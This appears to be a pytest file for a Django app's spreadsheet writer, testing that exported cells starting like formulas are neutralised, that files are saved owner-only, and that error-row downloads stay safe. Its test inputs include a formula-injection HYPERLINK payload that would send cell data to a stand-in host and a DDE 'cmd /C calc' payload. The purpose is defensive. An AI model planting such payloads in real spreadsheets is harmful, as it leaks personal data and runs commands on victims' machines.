"""The one .xlsx writer: no cell the app writes runs as a formula (issue 10 §6, errors.xlsx).

The attack: a roster cell holding ``=HYPERLINK("http://x/?"&A1,"点击")`` as text (typed
with a leading quote, so the upload reads it as text) came back live in errors.xlsx,
beside a full identity number. Every workbook now goes through jiuye.core.xlsx.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import stat
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from jiuye.core.xlsx import BOLD, FORMULA_STARTS, Book, neutralise
from jiuye.registry.rosters import batches, specs
from jiuye.staff.models import StaffProfile
from tests.factories import StaffUserFactory
from tests.registry.conftest import divisions  # noqa: F401 - the fixture
from tests.registry.factories import PersonFactory
from tests.registry.rosterkit import ID_A, ID_B, person_row
from tests.registry.staff import staff

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"点击")'
# (a roster cell's leading tab is trimmed as other spaces are: the tab is tried below)
DANGEROUS = [HYPERLINK, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1)"]


def _cells(content: bytes) -> list:
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


# ---------------------------------------------------------------- the rule


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_like_a_formula_gets_a_quote_in_front(start):
    assert neutralise(start + "1") == "'" + start + "1"


def test_numbers_stay_numbers_and_text_inside_stays_as_it_is():
    # given
    values = [12, -5, -2.5, Decimal("-3.10"), True, None, "张三", "a=b", "2207", "'=x", "=", ""]
    # when
    out = [neutralise(v) for v in values]
    # then
    assert out == [
        12,
        -5,
        -2.5,
        Decimal("-3.10"),
        True,
        None,
        "张三",
        "a=b",
        "2207",
        "'=x",
        "'=",
        "",
    ]


def test_characters_xml_cannot_hold_are_removed_before_the_check():
    assert neutralise("\x00\x07=1+1") == "'=1+1"


@settings(deadline=None)
@given(st.one_of(st.text(), st.integers(), st.floats(min_value=-1e15, max_value=1e15)))
def test_whatever_is_written_comes_back_as_no_formula_and_with_its_text_visible(value):
    # given
    book = Book()
    book.sheet("S").append([value])
    # when
    (cell,) = _cells(book.content())
    # then
    assert cell.data_type != "f"
    if isinstance(value, str):
        clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", value)
        text = clean.replace("\r\n", "\n").replace("\r", "\n")  # XML reads CR back as LF
        shown = cell.value or ""
        assert shown == ("'" + text if clean.startswith(FORMULA_STARTS) else text)
    else:
        assert cell.value == pytest.approx(value, rel=1e-14)  # (openpyxl writes 15-16 digits)
        assert cell.data_type == "n"


@pytest.mark.parametrize("streaming", [False, True])
def test_a_number_and_a_date_keep_their_types_in_both_kinds_of_book(streaming):
    # given
    book = Book(streaming=streaming)
    book.sheet("S").append([-7, 2.5, dt.date(2019, 6, 30), "-7"])
    # when
    number, decimal, day, text = _cells(book.content())
    # then
    assert (number.value, number.data_type) == (-7, "n")
    assert (decimal.value, decimal.data_type) == (2.5, "n")
    assert day.value == dt.datetime(2019, 6, 30)  # noqa: DTZ001 - Excel has no time zones
    assert day.number_format == "yyyy-mm-dd"
    assert (text.value, text.data_type) == ("'-7", "s")


def test_a_formula_set_around_the_writer_is_neutralised_when_saved():
    # given: a cell set directly on the openpyxl sheet, not through append
    book = Book()
    sheet = book.sheet("S")
    sheet.append(["ok"], BOLD)
    sheet._sheet["B1"] = "=1+1"
    # when
    cells = _cells(book.content())
    # then
    assert [(c.value, c.data_type) for c in cells] == [("ok", "s"), ("'=1+1", "s")]


def test_a_workbook_saved_to_disk_is_readable_by_its_owner_only(tmp_path):
    # given: a permissive umask, and a file that already exists world-readable
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"")
    path.chmod(0o644)
    old = os.umask(0)
    try:
        # when
        Book().save(path)
    finally:
        os.umask(old)
    # then
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert load_workbook(path).sheetnames == ["Sheet"]


def test_no_module_but_the_writer_imports_openpyxl_or_xlsxwriter():
    # given
    src = Path(django_settings.BASE_DIR) / "src"
    writer = src / "jiuye" / "core" / "xlsx.py"
    pattern = re.compile(r"^\s*(?:from|import)\s+(?:openpyxl|xlsxwriter)\b", re.MULTILINE)
    # when
    offenders = [
        str(path.relative_to(src))
        for path in sorted(src.rglob("*.py"))
        if path != writer and pattern.search(path.read_text(encoding="utf-8"))
    ]
    # then
    assert offenders == []


# ---------------------------------------------------------------- through the pages


@pytest.fixture
def county_staff(divisions):  # noqa: F811 - the fixture above
    user = StaffUserFactory(username="ningjiang")
    StaffProfile.objects.create(user=user, division=divisions["220702"])
    return user


def _roster(path: Path, rows: list[list]) -> Path:
    """A roster whose text cells are written as text, as Excel stores ``'=…`` typed in."""
    book = Workbook()
    sheet = book.active
    sheet.append(specs.PERSON.headers)
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    book.save(path)
    return path


def _upload(client, path: Path) -> str:
    with path.open("rb") as handle:
        response = client.post(
            reverse("registry:rosters:upload"), {"kind": "person", "file": handle}
        )
    assert response.status_code == 302, response.content.decode()[:2000]
    return response["Location"].rstrip("/").rsplit("/", 1)[1]


def test_the_error_rows_download_writes_no_formula_and_keeps_the_text(
    client, county_staff, settings, tmp_path
):
    # given: each dangerous name on a row that is invalid (a division outside the county)
    settings.VAR_DIR = tmp_path / "var"
    client.force_login(county_staff)
    rows = [person_row(ID_A, name, "220721100") for name in DANGEROUS]
    rows.append(person_row(ID_B, "李四", "220702001"))  # a valid row: not in the file
    token = _upload(client, _roster(tmp_path / "p.xlsx", rows))
    # when
    response = client.get(reverse("registry:rosters:errors", args=[token]))
    # then
    cells = _cells(response.content)
    assert response.status_code == 200
    assert [c for c in cells if c.data_type == "f"] == []
    book = load_workbook(BytesIO(response.content))
    names = [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + name for name in DANGEROUS]
    ids = {r[0] for r in book.active.iter_rows(min_row=2, values_only=True)}
    assert ids == {ID_A}


def test_the_error_rows_file_uploaded_again_holds_what_was_first_typed(
    client, county_staff, settings, tmp_path
):
    # given
    settings.VAR_DIR = tmp_path / "var"
    client.force_login(county_staff)
    rows = [person_row(ID_A, name, "220721100") for name in DANGEROUS]
    first = _upload(client, _roster(tmp_path / "p.xlsx", rows))
    errors = client.get(reverse("registry:rosters:errors", args=[first])).content
    again = tmp_path / "again.xlsx"
    again.write_bytes(errors)
    # when
    second = _upload(client, again)
    # then
    raw = batches.load(second).frame("raw")
    assert raw["姓名"].to_list() == DANGEROUS


def test_a_staff_list_export_writes_no_formula_and_keeps_dates_as_dates(client, divisions):  # noqa: F811
    # given
    person = PersonFactory(name=HYPERLINK, division=divisions["220702001"])
    client.force_login(staff("nj", "220702"))
    # when
    response = client.get(reverse("registry:person_export"))
    # then
    cells = _cells(b"".join(response.streaming_content))
    assert [c for c in cells if c.data_type == "f"] == []
    assert "'" + HYPERLINK in [c.value for c in cells]
    born = dt.datetime.combine(person.birth_date, dt.time())
    assert born in [c.value for c in cells]
